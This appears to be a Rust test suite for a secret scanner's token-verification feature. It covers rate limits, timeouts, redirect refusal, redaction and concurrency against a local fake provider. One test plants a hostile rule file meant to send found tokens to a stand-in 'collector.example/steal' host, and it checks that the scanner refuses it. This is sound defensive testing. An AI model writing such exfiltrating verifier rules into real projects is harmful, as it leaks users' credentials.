//! `--verify` and `trawl verify` against a fake provider on 127.0.0.1 (through
//! `--verify-endpoint`): every data verifier live and invalid, and the engine's rate limits,
//! timeouts, redirects, malformed answers, concurrency, redaction and the no-network default.

use std::io::Write;
use std::process::{Command, Output, Stdio};
use std::time::Instant;

use serde_json::Value;

use crate::fake_forge::{FakeForge, Request};
use crate::util::{stderr, stdout, trawl, Fake, Tree, BIN};

mod cache;
mod providers;

/// `trawl verify --rule RULE -f json --verify-endpoint PROVIDER=URL [extra]` with `secret` on
/// standard input.
pub(crate) fn verify_stdin(rule: &str, secret: &str, endpoint: &str, extra: &[&str]) -> Output {
    let mut child = Command::new(BIN)
        .args([
            "verify",
            "--rule",
            rule,
            "-f",
            "json",
            "--verify-endpoint",
            endpoint,
        ])
        .args(extra)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("trawl runs");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(format!("{secret}\n").as_bytes())
        .expect("write secret");
    child.wait_with_output().expect("trawl ends")
}

pub(crate) fn verification(o: &Output) -> Value {
    assert!(o.status.success(), "{}", stderr(o));
    let v: Value = serde_json::from_str(&stdout(o)).expect("JSON");
    v["verification"].clone()
}

/// The secret is in `header` only (in clear or base64 for basic auth), nowhere else.
pub(crate) fn sent_only_in(r: &Request, header: &str, secret: &str) {
    assert!(!r.path.contains(secret));
    for (n, v) in &r.headers {
        if !n.eq_ignore_ascii_case(header) {
            assert!(!v.contains(secret), "secret in header {n}");
        }
    }
}

pub(crate) fn token(prefix: &str, n: usize, seed: u64) -> String {
    format!("{prefix}{}", Fake::new(seed).alnum(n))
}

pub(crate) fn letters(prefix: &str, n: usize, seed: u64) -> String {
    let abc = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
    format!("{prefix}{}", Fake::new(seed).string(abc, n))
}

pub(crate) fn bearer(secret: &str) -> (&'static str, String) {
    ("Authorization", format!("Bearer {secret}"))
}

pub(crate) const HF_LIVE: &str = r#"{"type":"user","name":"alice","orgs":[{"name":"acme-ml"}],
  "auth":{"type":"access_token","accessToken":{"displayName":"ci","role":"fineGrained",
  "fineGrained":{"global":["discussion.write"],"scoped":[{"entity":{"type":"org","name":"acme-ml"},
  "permissions":["repo.content.read","repo.write"]}]}}}}"#;

pub(crate) const HF_PATH: &str = "/api/whoami-v2";

#[test]
fn rate_limits_are_waited_out() {
    let fake = FakeForge::start();
    fake.page(HF_PATH, 429, &[("Retry-After", "1")], "slow down");
    fake.json(HF_PATH, HF_LIVE);
    let started = Instant::now();
    let o = verify_stdin(
        "huggingface.user-token",
        &letters("hf_", 34, 40),
        &format!("huggingface={}", fake.url()),
        &[],
    );
    assert_eq!(verification(&o)["status"], "live");
    assert_eq!(fake.requests().len(), 2);
    assert!(
        started.elapsed().as_millis() >= 1000,
        "the Retry-After was honoured"
    );
    assert!(stderr(&o).contains("rate limit"), "{}", stderr(&o));
}

#[test]
fn a_provider_that_never_answers_is_an_error() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for s in listener.incoming().flatten() {
            held.push(s); // never answered
        }
    });
    let started = Instant::now();
    let o = verify_stdin(
        "huggingface.user-token",
        &letters("hf_", 34, 41),
        &format!("huggingface=http://{addr}"),
        &["--verify-timeout", "1"],
    );
    let v = verification(&o);
    assert_eq!(v["status"], "error", "{v}");
    assert!(v["message"].as_str().unwrap().contains("timed out"), "{v}");
    assert!(started.elapsed().as_secs() < 8);
}

#[test]
fn a_redirect_to_another_host_is_not_followed() {
    let elsewhere = FakeForge::start();
    elsewhere.json(HF_PATH, HF_LIVE);
    let fake = FakeForge::start();
    let location = format!("{}{HF_PATH}", elsewhere.url());
    fake.page(HF_PATH, 302, &[("Location", &location)], "");
    let o = verify_stdin(
        "huggingface.user-token",
        &letters("hf_", 34, 42),
        &format!("huggingface={}", fake.url()),
        &[],
    );
    let v = verification(&o);
    assert_eq!(v["status"], "error");
    assert!(
        v["message"]
            .as_str()
            .unwrap()
            .contains("redirected to another host"),
        "{v}"
    );
    assert_eq!(fake.requests().len(), 1);
    assert!(
        elsewhere.requests().is_empty(),
        "the redirect target saw a request"
    );
}

#[test]
fn malformed_json_is_an_error() {
    let fake = FakeForge::start();
    fake.json(HF_PATH, r#"{"name": "alice", "orgs": ["#);
    let o = verify_stdin(
        "huggingface.user-token",
        &letters("hf_", 34, 43),
        &format!("huggingface={}", fake.url()),
        &[],
    );
    let v = verification(&o);
    assert_eq!(v["status"], "error");
    assert!(v.get("owner").is_none());
}

#[test]
fn plain_http_endpoints_must_be_loopback() {
    let o = verify_stdin(
        "huggingface.user-token",
        &letters("hf_", 34, 44),
        "huggingface=http://10.1.2.3:8080",
        &[],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("loopback"), "{}", stderr(&o));
}

/// A tree with one file holding `secrets`, one a line.
pub(crate) fn tree_with(secrets: &[String]) -> Tree {
    let tree = Tree::new();
    let text: String = secrets.iter().map(|s| format!("HF_TOKEN={s}\n")).collect();
    tree.write("config.env", text);
    tree
}

#[test]
fn no_request_without_verify() {
    let fake = FakeForge::start();
    fake.json(HF_PATH, HF_LIVE);
    let secret = letters("hf_", 34, 50);
    let tree = tree_with(std::slice::from_ref(&secret));
    let endpoint = format!("huggingface={}", fake.url());
    let o = trawl([
        "scan",
        tree.path().to_str().unwrap(),
        "-f",
        "json",
        "--verify-endpoint",
        &endpoint,
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report: Value = serde_json::from_str(&stdout(&o)).unwrap();
    let findings = report
        .as_array()
        .or(report["findings"].as_array())
        .unwrap()
        .clone();
    assert_eq!(findings.len(), 1);
    assert!(findings[0].get("verification").is_none());
    assert!(fake.requests().is_empty(), "a request without --verify");
}

pub(crate) fn findings_of(o: &Output) -> Vec<Value> {
    findings_in(&serde_json::from_str(&stdout(o)).expect("JSON report"))
}

/// The findings of a JSON report (an array, or an object with `findings`).
pub(crate) fn findings_in(report: &Value) -> Vec<Value> {
    report
        .as_array()
        .or(report["findings"].as_array())
        .expect("findings")
        .clone()
}

#[test]
fn scan_verify_reports_owner_and_scopes_and_keeps_the_secret_out() {
    let fake = FakeForge::start();
    fake.json(HF_PATH, HF_LIVE);
    let secret = letters("hf_", 34, 51);
    let tree = tree_with(std::slice::from_ref(&secret));
    let endpoint = format!("huggingface={}", fake.url());
    let dir = tree.path().to_str().unwrap();
    let o = trawl([
        "scan",
        dir,
        "-f",
        "json",
        "--verify",
        "--verify-endpoint",
        &endpoint,
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let f = findings_of(&o);
    let v = &f[0]["verification"];
    assert_eq!(v["status"], "live");
    assert_eq!(v["owner"], "alice, acme-ml");
    assert_eq!(v["scopes"][0], "fineGrained");
    assert!(!stdout(&o).contains(&secret) && !stderr(&o).contains(&secret));
    let r = &fake.requests()[0];
    assert_eq!(
        r.header("Authorization"),
        Some(format!("Bearer {secret}").as_str())
    );
    sent_only_in(r, "Authorization", &secret);
    // Text and SARIF show it too.
    let text = trawl([
        "scan",
        dir,
        "--color",
        "never",
        "--verify",
        "--verify-endpoint",
        &endpoint,
    ]);
    assert!(
        stdout(&text).contains("verified: live  owner alice, acme-ml  scopes fineGrained"),
        "{}",
        stdout(&text)
    );
    assert!(!stdout(&text).contains(&secret));
    let sarif = trawl([
        "scan",
        dir,
        "-f",
        "sarif",
        "--verify",
        "--verify-endpoint",
        &endpoint,
    ]);
    let s: Value = serde_json::from_str(&stdout(&sarif)).unwrap();
    let p = &s["runs"][0]["results"][0]["properties"]["verification"];
    assert_eq!(
        (p["status"].as_str(), p["owner"].as_str()),
        (Some("live"), Some("alice, acme-ml"))
    );
    assert!(!stdout(&sarif).contains(&secret));
}

#[test]
fn fail_on_live_fails_only_for_live_findings() {
    let secret = letters("hf_", 34, 52);
    let tree = tree_with(std::slice::from_ref(&secret));
    let dir = tree.path().to_str().unwrap();
    let invalid = FakeForge::start();
    invalid.page(HF_PATH, 401, &[], "{}");
    let endpoint = format!("huggingface={}", invalid.url());
    let o = trawl([
        "scan",
        dir,
        "-q",
        "--verify",
        "--fail-on-live",
        "--verify-endpoint",
        &endpoint,
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let live = FakeForge::start();
    live.json(HF_PATH, HF_LIVE);
    let endpoint = format!("huggingface={}", live.url());
    let o = trawl([
        "scan",
        dir,
        "-q",
        "--verify",
        "--fail-on-live",
        "--verify-endpoint",
        &endpoint,
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    // Live but below --fail-on: passes.
    let o = trawl([
        "scan",
        dir,
        "-q",
        "--verify",
        "--fail-on-live",
        "--fail-on",
        "critical",
        "--verify-endpoint",
        &endpoint,
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    // --fail-on-live without --verify is a usage error.
    assert_eq!(
        trawl(["scan", dir, "--fail-on-live"]).status.code(),
        Some(2)
    );
}

#[test]
fn a_scanned_trees_rule_file_cannot_add_a_verifier() {
    let fake = FakeForge::start();
    fake.json("/steal", "{}");
    let tree = Tree::new();
    let secret = token("acme_", 30, 53);
    tree.write("app.env", format!("ACME_TOKEN={secret}\n"));
    tree.write("trawl.toml", "[rules]\nfiles = [\"r.toml\"]\n");
    tree.write(
        "r.toml",
        r#"[[rules]]
id = "acme.token"
name = "Acme token"
category = "generic"
severity = "high"
regex = '''\b(?P<secret>acme_[A-Za-z0-9]{30})\b'''
keywords = ["acme_"]

[rules.verify]
provider = "acme"
hosts = ["collector.example"]
url = "https://collector.example/steal"
send = "bearer"
"#,
    );
    let endpoint = format!("acme={}", fake.url());
    let o = trawl([
        "scan",
        tree.path().to_str().unwrap(),
        "-f",
        "json",
        "--verify",
        "--verify-endpoint",
        &endpoint,
    ]);
    for f in findings_of(&o) {
        assert_ne!(f["verification"]["status"], "live");
    }
    assert!(stderr(&o).contains("not used"), "{}", stderr(&o));
    assert!(fake.requests().is_empty());
}

#[test]
fn one_thousand_findings_with_default_concurrency() {
    let fake = FakeForge::start();
    fake.json(HF_PATH, HF_LIVE);
    let mut rng = Fake::new(60);
    let abc = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
    let secrets: Vec<String> = (0..1000)
        .map(|_| format!("hf_{}", rng.string(abc, 34)))
        .collect();
    let tree = tree_with(&secrets);
    let endpoint = format!("huggingface={}", fake.url());
    let dir = tree.path().to_str().unwrap();
    let scan_only = Instant::now();
    let o = trawl(["scan", dir, "-q", "-f", "json"]);
    let scan_time = scan_only.elapsed();
    assert_eq!(findings_of(&o).len(), 1000);
    let started = Instant::now();
    let o = trawl([
        "scan",
        dir,
        "-q",
        "-f",
        "json",
        "--verify",
        "--verify-endpoint",
        &endpoint,
    ]);
    let total = started.elapsed();
    let f = findings_of(&o);
    assert_eq!(f.len(), 1000);
    assert!(f.iter().all(|x| x["verification"]["status"] == "live"));
    assert_eq!(fake.requests().len(), 1000, "each distinct secret once");
    println!(
        "verify: 1000 findings in {:.2} s with --verify ({:.2} s without)",
        total.as_secs_f64(),
        scan_time.as_secs_f64()
    );
}
